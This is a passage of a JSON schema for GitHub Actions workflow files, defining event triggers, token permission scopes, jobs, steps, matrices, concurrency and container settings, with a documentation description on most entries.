`released`.","one-of":["release-activity-type","release-activity-types"]},"release-activity-types":{"sequence":{"item-type":"release-activity-type"}},"release-activity-type":{"allowed-values":["published","unpublished","created","edited","deleted","prereleased","released"]},"schedule-string":{"description":"The `schedule` event allows you to trigger a workflow at a scheduled time.\\n\\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.","string":{"constant":"schedule"}},"schedule":{"description":"The `schedule` event allows you to trigger a workflow at a scheduled time.\\n\\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.","sequence":{"item-type":"cron-mapping"}},"status-string":{"description":"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.","string":{"constant":"status"}},"status":{"description":"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.","null":{}},"watch-string":{"description":"Runs your workflow when the workflow\'s repository is starred.","string":{"constant":"watch"}},"watch":{"description":"Runs your workflow when the workflow\'s repository is starred.","one-of":["null","watch-mapping"]},"watch-mapping":{"mapping":{"properties":{"types":"watch-activity"}}},"watch-activity":{"description":"The types of watch activity that trigger the workflow. Supported activity types: `started`.","one-of":["watch-activity-type","watch-activity-types"]},"watch-activity-types":{"sequence":{"item-type":"watch-activity-type"}},"watch-activity-type":{"allowed-values":["started"]},"workflow-run-string":{"description":"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.","string":{"constant":"workflow_run"}},"workflow-run":{"description":"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.","one-of":["null","workflow-run-mapping"]},"workflow-run-mapping":{"mapping":{"properties":{"types":"workflow-run-activity","workflows":"workflow-run-workflows","branches":"event-branches","branches-ignore":"event-branches-ignore"}}},"workflow-run-workflows":{"description":"The name of the workflow that triggers the `workflow_run` event. The workflow must be in the same repository as the workflow that uses the `workflow_run` event.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"workflow-run-activity":{"description":"The types of workflow run activity that trigger the workflow. Supported activity types: `completed`, `requested`, `in_progress`.","one-of":["workflow-run-activity-type","workflow-run-activity-types"]},"workflow-run-activity-types":{"sequence":{"item-type":"workflow-run-activity-type"}},"workflow-run-activity-type":{"allowed-values":["requested","completed","in_progress"]},"event-branches":{"description":"Use the `branches` filter when you want to include branch name patterns or when you want to both include and exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-branches-ignore":{"description":"Use the `branches-ignore` filter when you only want to exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-names":{"description":"Use the `names` filter when you want to include names via patterns or when you want to both include and exclude names using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags":{"description":"Use the `tags` filter when you want to include tag name patterns or when you want to both include and exclude tag names patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags-ignore":{"description":"Use the `tags-ignore` filter when you only want to exclude tag name patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths":{"description":"Use the `paths` filter when you want to include file path patterns or when you want to both include and exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths-ignore":{"description":"Use the `paths-ignore` filter when you only want to exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-versions":{"description":"Use the `versions` filter when you want to include versions via patterns or when you want to both include and exclude versions using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"repository-dispatch-string":{"description":"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.","string":{"constant":"branch_protection_rule"}},"repository-dispatch":{"description":"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.","one-of":["null","repository-dispatch-mapping"]},"repository-dispatch-mapping":{"mapping":{"properties":{"types":"sequence-of-non-empty-string"}}},"workflow-call-string":{"description":"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.","string":{"constant":"workflow_call"}},"workflow-call":{"description":"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.","one-of":["null","workflow-call-mapping"]},"workflow-call-mapping":{"mapping":{"properties":{"inputs":"workflow-call-inputs","secrets":"workflow-call-secrets","outputs":"workflow-call-outputs"}}},"workflow-call-inputs":{"description":"Inputs that are passed to the called workflow from the caller workflow.","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"workflow-call-input-definition"}},"workflow-call-input-definition":{"mapping":{"properties":{"description":{"type":"string","description":"A string description of the input parameter."},"type":{"type":"workflow-call-input-type","required":true},"required":{"type":"boolean","description":"A boolean to indicate whether the action requires the input parameter. Set to `true` when the parameter is required."},"default":"workflow-call-input-default"}}},"workflow-call-input-type":{"description":"Required if input is defined for the `on.workflow_call` keyword. The value of this parameter is a string specifying the data type of the input. This must be one of: `boolean`, `number`, or `string`.","one-of":["input-type-string","input-type-boolean","input-type-number"]},"input-type-string":{"string":{"constant":"string"}},"input-type-boolean":{"string":{"constant":"boolean"}},"input-type-number":{"string":{"constant":"number"}},"input-type-choice":{"string":{"constant":"choice"}},"input-type-environment":{"string":{"constant":"environment"}},"workflow-call-input-default":{"description":"If a `default` parameter is not set, the default value of the input is `false` for boolean, `0` for a number, and `\\"\\"` for a string.","context":["github","inputs","vars"],"one-of":["string","boolean","number"]},"workflow-call-secrets":{"description":"A map of the secrets that can be used in the called workflow. Within the called workflow, you can use the `secrets` context to refer to a secret.","mapping":{"loose-key-type":"workflow-call-secret-name","loose-value-type":"workflow-call-secret-definition"}},"workflow-call-secret-name":{"string":{"require-non-empty":true},"description":"A string identifier to associate with the secret."},"workflow-call-secret-definition":{"one-of":["null","workflow-call-secret-mapping-definition"]},"workflow-call-secret-mapping-definition":{"mapping":{"properties":{"description":{"type":"string","description":"A string description of the secret parameter."},"required":{"type":"boolean","description":"A boolean specifying whether the secret must be supplied."}}}},"workflow-call-outputs":{"description":"A reusable workflow may generate data that you want to use in the caller workflow. To use these outputs, you must specify them as the outputs of the reusable workflow.","mapping":{"loose-key-type":"workflow-call-output-name","loose-value-type":"workflow-call-output-definition"}},"workflow-call-output-name":{"string":{"require-non-empty":true},"description":"A string identifier to associate with the output. The value of `<output_id>` is a map of the input\'s metadata. The `<output_id>` must be a unique identifier within the outputs object and must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-call-output-definition":{"mapping":{"properties":{"description":{"type":"string","description":"A string description of the output parameter."},"value":{"type":"workflow-output-context","required":true}}}},"workflow-output-context":{"description":"The value to assign to the output parameter.","context":["github","inputs","vars","jobs"],"string":{}},"workflow-dispatch-string":{"description":"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.","string":{"constant":"workflow_dispatch"}},"workflow-dispatch":{"description":"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.","one-of":["null","workflow-dispatch-mapping"]},"workflow-dispatch-mapping":{"mapping":{"properties":{"inputs":"workflow-dispatch-inputs"}}},"workflow-dispatch-inputs":{"description":"You can configure custom-defined input properties, default input values, and required inputs for the event directly in your workflow. When you trigger the event, you can provide the `ref` and any `inputs`. When the workflow runs, you can access the input values in the `inputs` context.","mapping":{"loose-key-type":"workflow-dispatch-input-name","loose-value-type":"workflow-dispatch-input"}},"workflow-dispatch-input-name":{"string":{"require-non-empty":true},"description":"A string identifier to associate with the input. The value of <input_id> is a map of the input\'s metadata. The <input_id> must be a unique identifier within the inputs object. The <input_id> must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-dispatch-input":{"mapping":{"properties":{"description":{"type":"string","description":"A string description of the input parameter."},"type":{"type":"workflow-dispatch-input-type"},"required":{"type":"boolean","description":"A boolean to indicate whether the workflow requires the input parameter. Set to true when the parameter is required."},"default":"workflow-dispatch-input-default","options":{"type":"sequence-of-string","description":"The options of the dropdown list, if the type is a choice."}}}},"workflow-dispatch-input-type":{"description":"A string representing the type of the input. This must be one of: `boolean`, `number`, `string`, `choice`, or `environment`.","one-of":["input-type-string","input-type-boolean","input-type-number","input-type-environment","input-type-choice"]},"workflow-dispatch-input-default":{"description":"The default value is used when an input parameter isn\'t specified in a workflow file.","one-of":["string","boolean","number"]},"permissions":{"description":"You can use `permissions` to modify the default permissions granted to the `GITHUB_TOKEN`, adding or removing access as required, so that you only allow the minimum required access.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#permissions)","one-of":["permissions-mapping","permission-level-shorthand-read-all","permission-level-shorthand-write-all"]},"permissions-mapping":{"mapping":{"properties":{"actions":{"type":"permission-level-any","description":"Actions workflows, workflow runs, and artifacts."},"artifact-metadata":{"type":"permission-level-any","description":"Storage and deployment records for build artifacts."},"attestations":{"type":"permission-level-any","description":"Artifact attestations."},"checks":{"type":"permission-level-any","description":"Check runs and check suites."},"code-quality":{"type":"permission-level-any","description":"Code quality data."},"contents":{"type":"permission-level-any","description":"Repository contents, commits, branches, downloads, releases, and merges."},"copilot-requests":{"type":"permission-level-write-or-no-access","description":"GitHub Copilot requests."},"deployments":{"type":"permission-level-any","description":"Deployments and deployment statuses."},"discussions":{"type":"permission-level-any","description":"Discussions and related comments and labels."},"drives":{"type":"permission-level-any","description":"GitHub Drives persistent workspace storage. Use `read` for checkout and `write` to commit changes."},"id-token":{"type":"permission-level-write-or-no-access","description":"Token to request an OpenID Connect token."},"issues":{"type":"permission-level-any","description":"Issues and related comments, assignees, labels, and milestones."},"models":{"type":"permission-level-read-or-no-access","description":"Call AI models with GitHub Models."},"packages":{"type":"permission-level-any","description":"Packages published to the GitHub Package Platform."},"pages":{"type":"permission-level-any","description":"Retrieve Pages statuses, configuration, and builds, as well as create new builds."},"pull-requests":{"type":"permission-level-any","description":"Pull requests and related comments, assignees, labels, milestones, and merges."},"repository-projects":{"type":"permission-level-any","description":"Classic projects within a repository."},"security-events":{"type":"permission-level-any","description":"Code scanning alerts."},"statuses":{"type":"permission-level-any","description":"Commit statuses."},"vulnerability-alerts":{"type":"permission-level-read-or-no-access","description":"Dependabot alerts."}}}},"permission-level-any":{"description":"The permission level for the `GITHUB_TOKEN`.","one-of":["permission-level-read","permission-level-write","permission-level-no-access"]},"permission-level-read-or-no-access":{"one-of":["permission-level-read","permission-level-no-access"]},"permission-level-write-or-no-access":{"one-of":["permission-level-write","permission-level-no-access"]},"permission-level-read":{"description":"The permission level for the `GITHUB_TOKEN`. Grants `read` permission for the specified scope.","string":{"constant":"read"}},"permission-level-write":{"description":"The permission level for the `GITHUB_TOKEN`. Grants `write` permission for the specified scope.","string":{"constant":"write"}},"permission-level-no-access":{"description":"The permission level for the `GITHUB_TOKEN`. Restricts all access for the specified scope.","string":{"constant":"none"}},"permission-level-shorthand-read-all":{"description":"The permission level for the `GITHUB_TOKEN`. Grants `read` access for all scopes.","string":{"constant":"read-all"}},"permission-level-shorthand-write-all":{"description":"The permission level for the `GITHUB_TOKEN`. Grants `write` access for all scopes.","string":{"constant":"write-all"}},"workflow-defaults":{"description":"Use `defaults` to create a map of default settings that will apply to all jobs in the workflow. You can also set default settings that are only available to a job.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#defaults)","mapping":{"properties":{"run":"workflow-defaults-run"}}},"workflow-defaults-run":{"mapping":{"properties":{"shell":"shell","working-directory":"working-directory"}}},"workflow-env":{"description":"A map of environment variables that are available to the steps of all jobs in the workflow. You can also set environment variables that are only available to the steps of a single job or to a single step.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#env)","context":["github","inputs","vars","secrets"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"jobs":{"description":"A workflow run is made up of one or more `jobs`, which run in parallel by default. To run jobs sequentially, you can define dependencies on other jobs using the `jobs.<job_id>.needs` keyword. Each job runs in a runner environment specified by `runs-on`.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#jobs)","mapping":{"loose-key-type":"job-id","loose-value-type":"job"}},"job-id":{"string":{"require-non-empty":true},"description":"A unique identifier for the job. The identifier must start with a letter or _ and contain only alphanumeric characters, -, or _."},"job":{"description":"Each job must have an id to associate with the job. The key `job_id` is a string and its value is a map of the job\'s configuration data. You must replace `<job_id>` with a string that is unique to the jobs object. The `<job_id>` must start with a letter or _ and contain only alphanumeric characters, -, or _.","one-of":["job-factory","workflow-job"]},"job-factory":{"mapping":{"properties":{"needs":"needs","if":"job-if","strategy":"strategy","name":{"type":"string-strategy-context","description":"The name of the job displayed on GitHub."},"runs-on":{"type":"runs-on","required":true},"timeout-minutes":{"type":"number-strategy-context","description":"The maximum number of minutes to let a workflow run before GitHub automatically cancels it. Default: 360"},"cancel-timeout-minutes":"number-strategy-context","continue-on-error":{"type":"boolean-strategy-context","description":"Prevents a workflow run from failing when a job fails. Set to true to allow a workflow run to pass when this job fails."},"container":"container","services":"services","env":"job-env","environment":"job-environment","permissions":"permissions","concurrency":"job-concurrency","outputs":"job-outputs","defaults":"job-defaults","steps":"steps","snapshot":"snapshot"}}},"workflow-job":{"mapping":{"properties":{"name":{"type":"string-strategy-context","description":"The name of the job displayed on GitHub."},"uses":{"description":"The location and version of a reusable workflow file to run as a job. Use one of the following formats:\\n\\n* `{owner}/{repo}/.github/workflows/{filename}@{ref}` for reusable workflows in public and private repositories.\\n* `./.github/workflows/{filename}` for reusable workflows in the same repository.\\n\\n{ref} can be a SHA, a release tag, or a branch name. Using the commit SHA is the safest for stability and security.","type":"non-empty-string","required":true},"with":"workflow-job-with","secrets":"workflow-job-secrets","needs":"needs","if":"job-if","permissions":"permissions","concurrency":"job-concurrency","strategy":"strategy"}}},"workflow-job-with":{"description":"When a job is used to call a reusable workflow, you can use `with` to provide a map of inputs that are passed to the called workflow.\\n\\nAny inputs that you pass must match the input specifications defined in the called workflow.","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context"}},"workflow-job-secrets":{"description":"When a job is used to call a reusable workflow, you can use `secrets` to provide a map of secrets that are passed to the called workflow.\\n\\nAny secrets that you pass must match the names defined in the called workflow.","one-of":["workflow-job-secrets-mapping","workflow-job-secrets-inherit"]},"workflow-job-secrets-mapping":{"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context-with-secrets"}},"workflow-job-secrets-inherit":{"string":{"constant":"inherit"}},"needs":{"description":"Use `needs` to identify any jobs that must complete successfully before this job will run. It can be a string or array of strings. If a job fails, all jobs that need it are skipped unless the jobs use a conditional expression that causes the job to continue. If a run contains a series of jobs that need each other, a failure applies to all jobs in the dependency chain from the point of failure onwards.","one-of":["sequence-of-non-empty-string","non-empty-string"]},"job-if":{"description":"You can use the `if` conditional to prevent a job from running unless a condition is met. You can use any supported context and expression to create a conditional.","context":["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],"string":{}},"job-if-result":{"context":["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],"one-of":["null","boolean","number","string","sequence","mapping"]},"strategy":{"description":"Use `strategy` to use a matrix strategy for your jobs. A matrix strategy lets you use variables in a single job definition to automatically create multiple job runs that are based on the combinations of the variables. ","context":["github","inputs","vars","needs"],"mapping":{"properties":{"fail-fast":{"type":"boolean","description":"Setting `fail-fast` to `false` prevents GitHub from canceling all in-progress jobs if any matrix job fails. Default: `true`"},"max-parallel":{"type":"number","description":"The maximum number of jobs that can run simultaneously when using a matrix job strategy. By default, GitHub will maximize the number of jobs run in parallel depending on runner availability."},"matrix":"matrix"}}},"matrix":{"description":"Use `matrix` to define a matrix of different job configurations. Within your matrix, define one or more variables followed by an array of values.","mapping":{"properties":{"include":{"type":"matrix-filter","description":"Use `include` to expand existing matrix configurations or to add new configurations. The value of `include` is a list of objects.\\n\\nFor each object in the `include` list, the key:value pairs in the object will be added to each of the matrix combinations if none of the key:value pairs overwrite any of the original matrix values. If the object cannot be added to any of the matrix combinations, a new matrix combination will be created instead. Note that the original matrix values will not be overwritten, but added matrix values can be overwritten."},"exclude":{"type":"matrix-filter","description":"To remove specific configurations defined in the matrix, use `exclude`. An excluded configuration only has to be a partial match for it to be excluded."}},"loose-key-type":"non-empty-string","loose-value-type":"sequence"}},"matrix-filter":{"sequence":{"item-type":"matrix-filter-item"}},"matrix-filter-item":{"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"any"}},"snapshot":{"description":"Use `snapshot` to define a custom image you want to create or update after your job succeeds by taking a snapshot of your runner.","one-of":["non-empty-string","snapshot-mapping"]},"snapshot-mapping":{"mapping":{"properties":{"image-name":{"description":"The desired name of the custom image you want to create or update.","type":"non-empty-string","required":true},"if":"snapshot-if","version":{"description":"The desired major version updates upon a new custom image version creation.","type":"non-empty-string"}}}},"snapshot-if":{"context":["github","inputs","vars","needs","strategy","matrix"],"description":"Use the if conditional to prevent a snapshot from being taken unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.","string":{}},"runs-on":{"description":"Use `runs-on` to define the type of machine to run the job on.\\n* The destination machine can be either a GitHub-hosted runner, larger runner, or a self-hosted runner.\\n* You can target runners based on the labels assigned to them, or their group membership, or a combination of these.\\n* You can provide `runs-on` as a single string or as an array of strings.\\n* If you specify an array of strings, your workflow will execute on any runner that matches all of the specified `runs-on` values.\\n* If you would like to run your workflow on multiple machines, use `jobs.<job_id>.strategy`.","context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","sequence-of-non-empty-string","runs-on-mapping"]},"runs-on-mapping":{"mapping":{"properties":{"group":{"description":"The group from which to select a runner.","type":"non-empty-string"},"labels":"runs-on-labels"}}},"runs-on-labels":{"description":"The label by which to filter for available runners.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"job-env":{"description":"A map of variables that are available to all steps in the job.","context":["github","inputs","vars","needs","strategy","matrix","secrets"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"workflow-concurrency":{"description":"Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.\\n\\nYou can also specify `concurrency` at the job level.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)","context":["github","inputs","vars"],"one-of":["string","concurrency-mapping"]},"job-concurrency":{"description":"Concurrency ensures that only a single job using the same concurrency group will run at a time. A concurrency group can be any string or expression. The expression can use any context except for the `secrets` context.\\n\\nYou can also specify `concurrency` at the workflow level.","context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","concurrency-mapping"]},"concurrency-mapping":{"description":"Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.\\n\\nYou can also specify `concurrency` at the job level.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)","mapping":{"properties":{"group":{"type":"non-empty-string","required":true,"description":"When a concurrent job or workflow is queued, if another job or workflow using the same concurrency group in the repository is in progress, the queued job or workflow will be `pending`. Any previously pending job or workflow in the concurrency group will be canceled. To also cancel any currently running job or workflow in the same concurrency group, specify `cancel-in-progress: true`."},"cancel-in-progress":{"type":"boolean","description":"To cancel any currently running job or workflow in the same concurrency group, specify cancel-in-progress: true."},"queue":{"type":"concurrency-queue","description":"The queuing mode for the concurrency group. When set to `max`, workflows or jobs will wait in a queue for the concurrency group up to the maximum queue length. Default: `single` meaning at most one item can be pending."}}}},"concurrency-queue":{"allowed-values":["single","max"]},"job-environment":{"description":"The environment that the job references. All environment protection rules must pass before a job referencing the environment is sent to a runner.","context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","job-environment-mapping"]},"job-environment-mapping":{"mapping":{"properties":{"name":{"type":"job-environment-name","required":true},"url":{"type":"string-runner-context-no-secrets","description":"The environment URL, which maps to `environment_url` in the deployments API."},"deployment":{"type":"boolean","description":"Whether to create a deployment record for this environment. Defaults to true."}}}},"job-environment-name":{"description":"The name of the environment used by the job.","context":["github","inputs","vars","needs","strategy","matrix"],"string":{}},"job-defaults":{"description":"A map of default settings that will apply to all steps in the job. You can also set default settings for the entire workflow.","mapping":{"properties":{"run":"job-defaults-run"}}},"job-defaults-run":{"context":["github","inputs","vars","strategy","matrix","needs","env"],"mapping":{"properties":{"shell":"shell","working-directory":"working-directory"}}},"job-outputs":{"description":"A map of outputs for a called workflow. Called workflow outputs are available to all downstream jobs in the caller workflow. Each output has an identifier, an optional `description,` and a `value`. The `value` must be set to the value of an output from a job within the called workflow.","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},"steps":{"description":"A job contains a sequence of tasks called `steps`. Steps can run commands, run setup tasks, run an action in your repository, a public repository, or an action published in a Docker registry, wait for background steps to complete, or cancel a background step. Not all steps run actions, but all actions run as a step. Each step runs in its own process in the runner environment and has access to the workspace and filesystem. Because steps run in their own process, changes to environment variables are not preserved between steps. GitHub provides built-in steps to set up and complete a job.","sequence":{"item-type":"steps-item"}},"steps-item":{"one-of":["run-step","regular-step","wait-step","wait-all-step","cancel-step","parallel-step"]},"run-step":{"mapping":{"properties":{"name":"step-name","id":"step-id","if":"step-if","timeout-minutes":"step-timeout-minutes","run":{"type":"string-steps-context","description":"Runs command-line programs using the operating system\'s shell. If you do not provide a `name`, the step name will default to the text specified in the `run` command. Commands run using non-login shells by default. You can choose a different shell and customize the shell used to run commands. Each `run` keyword represents a new process and shell in the virtual environment. When you provide multi-line commands, each line runs in the same shell.","required":true},"continue-on-error":"step-continue-on-error","env":"step-env","working-directory":"string-steps-context","shell":"shell","background":"step-background"}}},"regular-step":{"mapping":{"properties":{"name":"step-name","id":"step-id","if":"step-if","continue-on-error":"step-continue-on-error","timeout-minutes":"step-timeout-minutes","uses":{"type":"step-uses","required":true},"with":"step-with","env":"step-env","background":"step-background"}}},"wait-step":{"mapping":{"properties":{"name":"step-name","id":"step-id","continue-on-error":"step-continue-on-error","wait":{"type":"step-wait-target","required":true}}}},"wait-all-step":{"mapping":{"properties":{"name":"step-name","id":"step-id","continue-on-error":"step-continue-on-error","wait-all":{"type":"step-wait-all-value","required":true}}}},"cancel-step":{"mapping":{"properties":{"name":"step-name","id":"step-id","continue-on-error":"step-continue-on-error","cancel":{"type":"step-cancel-target","required":true}}}},"parallel-step":{"mapping":{"properties":{"parallel":{"type":"parallel-steps","required":true,"description":"Run a group of steps concurrently. All steps in the parallel block run as background steps and the workflow waits for all of them to complete before continuing."}}}},"parallel-steps":{"sequence":{"item-type":"steps-item"}},"step-uses":{"description":"Selects an action to run as part of a step in your job. An action is a reusable unit of code. You can use an action defined in the same repository as the workflow, a public repository, a [private repository with access enabled](https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/enabling-features-for-your-repository/managing-github-actions-settings-for-a-repository#allowing-access-to-components-in-a-private-repository), or in a published Docker container image.","string":{"require-non-empty":true}},"step-background":{"boolean":{},"description":"When set to true, runs this step in the background. The workflow continues to the next step immediately without waiting for the background step to finish."},"step-wait-target":{"description":"The step ID or IDs of background steps to wait for.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"step-wait-all-value":{"description":"Wait for all prior background steps to complete. Use as a bare key (`wait-all:`) or with a boolean value.","one-of":["null","boolean"]},"step-cancel-target":{"description":"The step ID of a background step to cancel.","string":{"require-non-empty":true}},"step-continue-on-error":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"boolean":{},"description":"Prevents a job from failing when a step fails. Set to `true` to allow a job to pass when this step fails."},"step-id":{"string":{"require-non-empty":true},"description":"A unique identifier for the step. You can use the `id` to reference the step in contexts."},"step-if":{"context":["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],"description":"Use the `if` conditional to prevent a step from running unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.","string":{}},"step-if-result":{"context":["github","inputs","vars","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],"one-of":["null","boolean","number","string","sequence","mapping"]},"step-env":{"description":"Sets variables for steps to use in the runner environment. You can also set variables for the entire workflow or a job.","context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-name":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"string":{},"description":"A name for your step to display on GitHub."},"step-timeout-minutes":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"number":{},"description":"The maximum number of minutes to run the step before killing the process."},"step-with":{"description":"A map of the input parameters defined by the action. Each input parameter is a key/value pair. Input parameters are set as variables. When you specify an input in a workflow file or use a default input value, GitHub creates a variable for the input with the name `INPUT_<VARIABLE_NAME>`. The variable created converts input names to uppercase letters and replaces spaces with `_`.","context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"container":{"description":"A container to run any steps in a job that don\'t already specify a container. If you have steps that use both script and container actions, the container actions will run as sibling containers on the same network with the same volume mounts.\\n\\nIf you do not set a container, all steps will run directly on the host specified by runs-on unless a step refers to an action configured to run in a container.","context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","container-mapping"]},"container-mapping":{"mapping":{"properties":{"image":{"type":"non-empty-string","description":"Use `jobs.<job_id>.container.image` to define the Docker image to use as the container to run the action. The value can be the Docker Hub image or a registry name."},"options":{"type":"string","description":"Use `jobs.<job_id>.container.options` to configure additional Docker container resource options."},"env":"container-env","ports":{"type":"sequence-of-non-empty-string","description":"Use `jobs.<job_id>.container.ports` to set an array of ports to expose on the container."},"volumes":{"type":"sequence-of-non-empty-string","description":"Use `jobs.<job_id>.container.volumes` to set an array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},"credentials":"container-registry-credentials"}}},"services":{"description":"Additional containers to host services for a job in a workflow. These are useful for creating databases or cache services like redis. The runner on the virtual machine will automatically create a network and manage the life cycle of the service containers. When you use a service container for a job or your step uses container actions, you don\'t need to set port information to access the service. Docker automatically exposes all ports between containers on the same network. When both the job and the action run in a container, you can directly reference the container by its hostname. The hostname is automatically mapped to the service name. When a step does not use a container action, you must access the service using localhost and bind the ports.","context":["github","inputs","vars","needs","strategy","matrix"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"services-container"}},"services-container":{"context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","service-container-mapping"]},"container-registry-credentials":{"description":"If the image\'s container registry requires authentication to pull the image, you can use `jobs.<job_id>.container.credentials` to set a map of the username and password. The credentials are the same values that you would provide to the `docker login` command.","context":["github","inputs","vars","secrets","env"],"mapping":{"properties":{"username":"non-empty-string","password":"non-empty-string"}}},"container-env":{"description":"Use `jobs.<job_id>.container.env` to set a map of variables in the 